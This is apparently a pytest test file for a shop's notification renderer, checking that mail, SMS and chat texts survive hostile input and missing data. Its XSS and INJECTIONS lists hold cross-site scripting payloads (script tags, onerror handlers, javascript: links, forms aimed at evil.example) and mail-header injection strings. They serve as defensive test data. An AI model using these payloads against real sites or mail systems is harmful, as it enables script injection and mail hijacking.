"""What comes from outside stays text, in a mail's HTML, in its subject, in a chat; and what is absent is not a gap."""

from email.message import EmailMessage
from email.policy import SMTP
from html.parser import HTMLParser
from typing import Any

import pytest

from hub.messages import MissingData, NoTextError, Rendering, Texts, TooLongError
from hub.plugin import Button, Form

from .world import CUSTOMER, KYIV, STAFF, link, sample, waiting, world

TEXTS, _ = Texts.load()

XSS = [
    "<script>alert(1)</script>",
    "</p><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "<svg/onload=alert(1)>",
    "<iframe src=//evil.example>",
    "<img src=http://evil.example/pixel.png>",
    "<a href=javascript:alert(1)>x</a>",
    "[click](javascript:alert(1))",
    "[click](https://evil.example)",
    "[click](\x01javascript:alert(1)\x03x\x02)",
    "\x01javascript:alert(1)\x03click\x02",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "https://evil.example/\"onclick=alert(1)",
    "https://evil.example/' onclick='alert(1)",
    "https://evil.example/<script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "{{ 7*7 }}{% raw %}",
    "${7*7}",
    "<style>body{background:url(//evil.example)}</style>",
    "<form action=//evil.example><input name=card>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example>",
    "Label:: <b>bold</b>",
    "- <b>item</b>",
    "\n\n<b>paragraph</b>",
    "\u2028<script>alert(1)</script>",
    "\u202egnp.exe",
    "\ud800<script>",
]  # fmt: skip
ALLOWED = {
    "html",
    "head",
    "meta",
    "title",
    "style",
    "body",
    "div",
    "span",
    "h1",
    "p",
    "a",
    "ul",
    "li",
    "dl",
    "dt",
    "dd",
    "br",
}


class Page(HTMLParser):
    """What a mail's HTML really holds, as a reader's program would see it."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.links: list[str] = []
        self.attributes: set[str] = set()
        self.open: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.links.extend(value or "" for name, value in attrs if name in ("href", "src"))
        if tag not in ("meta", "br"):
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag, f"</{tag}> closes something else"


def spoilt(value: Any, payload: str) -> Any:
    """The same data with the payload in every text."""
    if isinstance(value, dict):
        return {key: spoilt(each, payload) for key, each in value.items()}
    if isinstance(value, list):
        return [spoilt(each, payload) for each in value]
    return payload if isinstance(value, str) else value


def mail(names: dict[str, Any], name: str = "ready-for-pickup", locale: str = "en") -> Rendering:
    return TEXTS.render(name, form=Form.MAIL, locale=locale, names=names, zone=KYIV, link=link)


@pytest.mark.parametrize("payload", XSS)
@pytest.mark.parametrize("name", [*CUSTOMER, *STAFF])
def test_an_attack_in_every_field_stays_text_in_a_mail(name: str, payload: str) -> None:
    names = spoilt(sample(name, "en"), payload)
    made = mail(names, name)
    page = Page(made.html)
    assert page.open == []
    assert page.tags <= ALLOWED
    assert not any(attribute.startswith("on") for attribute in page.attributes)
    assert all(each.startswith(("https://hub.kavovar.example/l/", "mailto:", "tel:")) for each in page.links)
    assert not set(made.subject) & set("\r\n\0\u2028\u202e\x01\x02")
    assert not set(made.text) & set("\0\x01\x02\x03\x05\u2028\u202e\ud800")


@pytest.mark.parametrize(
    "payload", ["javascript:alert(1)", "//evil.example", "ftp://x.example", "https://", "https://a b", "http:"]
)
def test_what_is_no_web_address_makes_no_button(payload: str) -> None:
    made = mail(world("en", shipment={"tracking_url": payload, "status": "shipped"}), "shipped")
    assert [button.url for button in made.buttons] == ["https://hub.kavovar.example/l/order"]


def test_a_web_address_in_a_name_becomes_no_link() -> None:
    made = mail(world("en", order={"items": [{"name": "see https://evil.example", "quantity": 1}]}), "order-received")
    assert "see https://evil.example" in made.html
    assert not [each for each in Page(made.html).links if "evil" in each]


def test_a_mail_loads_nothing_from_elsewhere() -> None:
    for name in CUSTOMER:
        html = mail(sample(name, "en"), name).html
        assert not {"img", "link", "script", "iframe"} & Page(html).tags
        assert "url(" not in html
        assert "@import" not in html


def test_a_mail_says_its_language_and_begins_with_what_matters() -> None:
    html = mail(sample("ready-for-pickup", "uk"), locale="uk").html
    assert '<html lang="uk"' in html
    assert "<h1" in html
    assert html.index("його вже можна забрати") < html.index("<h1")  # the preheader
    assert "Відстежити посилку</a>" in html
    assert 'href="tel:+380441234567"' in html
    assert "mailto:help@kavovar.example" in html
    assert "https://hub.kavovar.example/l/telegram" in html


def test_the_opt_out_stands_only_where_there_is_one() -> None:
    transactional = mail(sample("delivered", "en"), "delivered")
    assert "Stop such messages" not in transactional.html
    all_links = TEXTS.render("delivered", form=Form.MAIL, locale="en", names=sample("delivered", "en"), zone=KYIV,
                             link=lambda name: f"https://h.example/{name}")  # fmt: skip
    assert "https://h.example/unsubscribe" in all_links.text
    assert 'href="https://h.example/unsubscribe">Stop such messages</a>' in all_links.html


INJECTIONS = [
    "a\r\nBcc: evil@evil.example",
    "a\nBcc: evil@evil.example",
    "a\rBcc: evil@evil.example",
    "a\u2028Bcc: evil@evil.example",
    "a\u2029Bcc: x",
    "a\x85Bcc: x",
    "a\x0bBcc: x",
    "a\x0cBcc: x",
    "a\0b",
    "a\r\n\r\n<html>",
    "a\r\n.\r\nMAIL FROM:<x>",
    "=?utf-8?q?a=0D=0ABcc:_x?=",
    '"quoted", <a@b.example>',
    "x" * 1_000,
    "слово " * 300,
    "a\ud800\udfff",
    "\u202eevil",
    "\x1b]0;title\x07",
]


@pytest.mark.parametrize("payload", INJECTIONS)
@pytest.mark.parametrize("name", ["order-received", "ready-for-pickup", "staff-escalation"])
def test_a_subject_is_one_line_whatever_stands_in_the_data(name: str, payload: str) -> None:
    names = spoilt(sample(name, "en"), payload)
    made = mail(names, name)
    assert made.subject == made.subject.strip()
    assert made.subject.isprintable()
    assert 0 < len(made.subject) <= 200
    message = EmailMessage(policy=SMTP)
    message["Subject"] = made.subject
    message.set_content(made.text)
    assert message.keys() == ["Subject", "Content-Type", "Content-Transfer-Encoding", "MIME-Version"]
    assert all(len(line) <= 998 for line in message.as_bytes().splitlines())
    assert all(button.text.isprintable() for button in made.buttons)


# ---------------------------------------------------------------- what is absent


def test_what_is_printed_and_absent_is_named_and_never_a_gap() -> None:
    names = world("en")
    del names["order"]["number"]
    with pytest.raises(MissingData) as missing:
        TEXTS.render("delivered", form=Form.SMS, locale="en", names=names, zone=KYIV, link=link)
    assert missing.value.fields == ("order.number",)
    assert "order.number" in str(missing.value)


@pytest.mark.parametrize("empty", [None, "", "  ", "\0"])
def test_an_empty_field_is_an_absent_one(empty: str | None) -> None:
    with pytest.raises(MissingData):
        TEXTS.render(
            "delivered", form=Form.SMS, locale="en", names=world("en", order={"number": empty}), zone=KYIV, link=link
        )


def test_a_text_waits_for_what_it_says_it_needs() -> None:
    assert TEXTS.needs("pickup-last-day") == ("shipment.pickup_deadline",)
    assert TEXTS.needs("delivered") == ()
    names = waiting("en", pickup_deadline=None)
    for form in Form:
        with pytest.raises(MissingData) as missing:
            TEXTS.render("pickup-last-day", form=form, locale="en", names=names, zone=KYIV, link=link)
        assert missing.value.fields == ("shipment.pickup_deadline",)


@pytest.mark.parametrize("template", ["ready-for-pickup", "pickup-reminder", "pickup-last-day"])
@pytest.mark.parametrize("locale", ["en", "uk", "pl", "ru"])
def test_who_may_collect_is_told_even_where_nobody_knows_the_place(template: str, locale: str) -> None:
    names = waiting(locale, pickup_point={"kind": "locker"})
    for form in Form:
        made = TEXTS.render(template, form=form, locale=locale, names=names, zone=KYIV, link=link)
        assert str(names["shipment"]["carrier"]) in made.text
        assert not made.subject.endswith((":", "at"))


def test_a_text_says_what_it_reads() -> None:
    reads = TEXTS.reads("ready-for-pickup")
    assert {"order.number", "shipment.pickup_point.name", "shipment.cash_due", "shipment.tracking_url"} <= reads
    assert TEXTS.reads("no-such-text") == frozenset()


def test_a_chat_has_its_buttons_beside_the_text() -> None:
    made = TEXTS.render("shipped", form=Form.CHAT, locale="en", names=world("en"), zone=KYIV, link=link)
    assert made.buttons == (
        Button("Track the parcel", url="https://track.example/20450000000001"),
        Button("See your order", url="https://hub.kavovar.example/l/order"),
    )
    assert "http" not in made.text
    assert (made.subject, made.html) == ("", "")


def test_an_sms_is_one_paragraph() -> None:
    made = TEXTS.render("shipped", form=Form.SMS, locale="uk", names=world("uk"), zone=KYIV, link=link)
    assert "\n" not in made.text
    assert "\u00a0" not in made.text


def test_a_mail_with_a_thousand_items_is_refused_before_it_is_a_megabyte() -> None:
    many = [{"name": "x" * 200, "quantity": 1}] * 1_000
    with pytest.raises(TooLongError):
        mail(world("en", order={"items": many}), "order-received")


def test_the_language_is_the_first_in_which_every_part_exists() -> None:
    assert TEXTS.locale_for("shipped", "sms", ["uk-UA", "pl"]) == "uk"
    assert TEXTS.locale_for("shipped", "mail", ["de", "pl_PL"]) == "pl"
    assert TEXTS.locale_for("shipped", "mail", ["de", "fr-CA"]) == "en"
    assert TEXTS.locale_for("shipped", "mail", []) == "en"
    with pytest.raises(NoTextError, match="no-such"):
        TEXTS.locale_for("no-such", "mail", ["uk"])
    with pytest.raises(NoTextError):
        TEXTS.locale_for("order-status", "sms", ["uk"])
    with pytest.raises(NoTextError):
        TEXTS.render("shipped", form=Form.SMS, locale="de", names=world("en"), zone=KYIV, link=link)


@pytest.mark.parametrize("form", [Form.MAIL, Form.CHAT])
@pytest.mark.parametrize("locale", ["en", "uk", "pl", "ru"])
def test_what_staff_are_told_of_a_flow_has_words_of_its_own(locale: str, form: Form) -> None:
    """Not those of a status that somebody reports."""
    said = {}
    for kind in ("parked", "limit", "flagged"):
        names = world(locale, notice={"kind": kind, "source": "waiting", "said": "order.total > 5"})
        text = TEXTS.render("staff-notice", form=form, locale=locale, names=names, zone=KYIV, link=link).text
        assert "waiting" in text and "order.total > 5" in text
        said[kind] = text
    assert len(set(said.values())) == 3
